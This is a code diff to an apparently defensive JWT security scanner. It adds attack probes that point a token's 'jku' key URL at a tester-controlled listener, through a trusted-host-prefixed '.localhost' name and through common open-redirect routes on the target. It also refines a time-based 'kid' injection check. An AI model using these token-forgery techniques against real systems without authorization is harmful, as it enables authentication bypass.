@@ -10,6 +10,7 @@ from collections.abc import Callable, Iterator
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from functools import cache
+from urllib.parse import quote
 
 from cryptography import x509
 from cryptography.hazmat.primitives import hashes
@@ -34,6 +35,7 @@ from jwt_guard.attacks.model import (
     Send,
     Severity,
     Wait,
+    ask,
     each,
     hole,
     must_refuse,
@@ -124,7 +126,12 @@ def _bypass(host: str) -> dict[str, Address]:
     def suffixed(listener: Listener, tag: str) -> dict[str, object]:
         return {"jku": f"{listener.address(tag)}/{host}/.well-known/jwks.json"}
 
+    def prefixed(listener: Listener, tag: str) -> dict[str, object]:
+        # Names under `localhost` are this machine's, where the resolver follows RFC 6761.
+        return {"jku": f"http://{host}.localhost:{listener.port}/jwks/{tag}"}
+
     return {
+        f"jku with {host} before the attacker's domain": prefixed,
         f"jku with {host} as user name": userinfo,
         f"jku with {host} as user name and a password": password,
         f"jku with {host} in the query": mentioned,
@@ -140,6 +147,23 @@ def _as_user(url: str, user: str) -> str:
 def _jku_bypass(context: Context) -> Play:
     for host in _trusted_hosts(context):
         yield from _pointed(context, _bypass(host))
+    yield from _pointed(context, _open_redirects(context))
+
+
+USUAL_REDIRECTS = ("/redirect?url={url}", "/login?next={url}", "/logout?next={url}")
+
+
+def _open_redirects(context: Context) -> dict[str, Address]:
+    """A jku on the target itself, which may trust its own host, and whose redirect leads away."""
+    told = context.plan.redirect_route
+    routes = USUAL_REDIRECTS if told is None else (told,)
+
+    def place(route: str) -> Address:
+        return lambda listener, tag: {
+            "jku": context.origin + route.replace("{url}", quote(listener.address(tag), safe=""))
+        }
+
+    return {f"jku to an open redirect, {route}": place(route) for route in routes}
 
 
 def _x5u(context: Context) -> Play:
@@ -304,18 +328,18 @@ def _commands(context: Context) -> Play:
 
 
 def _timed(context: Context, kids: tuple[str, ...]) -> Play:
-    """A delay counts only when it comes twice, and never with the same kid made harmless."""
+    """A delay counts only when it comes twice, and goes when the same kid asks for none."""
     for kid in kids:
-        text = rehashed(context.token, b"", kid=kid)
-        (first,) = yield Send(probes=(context.attempt(text, f"kid {kid!r}"),))
+        probe = context.attempt(rehashed(context.token, b"", kid=kid), f"kid {kid!r}")
+        (first,) = yield Send(probes=(probe,))
         if first.answer.elapsed < DELAY * 0.9:
             continue
-        (second,) = yield Send(probes=(context.attempt(text, "again", check=None),))
         calm = rehashed(context.token, b"", kid=kid.replace(str(DELAY), "0"))
-        (third,) = yield Send(probes=(context.attempt(calm, "harmless", check=None),))
-        slow = second.answer.elapsed >= DELAY * 0.9 > third.answer.elapsed
-        ruling = hole(f"answered after {second.answer.elapsed:.1f} s, twice") if slow else safe("")
-        yield Rule(about=f"kid {kid!r}", ruling=ruling, exchange=second)
+        quick = yield from ask(context.attempt(calm, "harmless", check=None))
+        again = yield from ask(replace(probe, label="again", check=None))
+        delay = min(first.answer.elapsed, again.answer.elapsed) - quick.answer.elapsed
+        ruling = hole(f"answered {delay:.1f} s later, twice") if delay > DELAY * 0.8 else safe("")
+        yield Rule(about=f"kid {kid!r}", ruling=ruling, exchange=again)
 
 
 def _log_injection(context: Context) -> Iterator[Probe]:
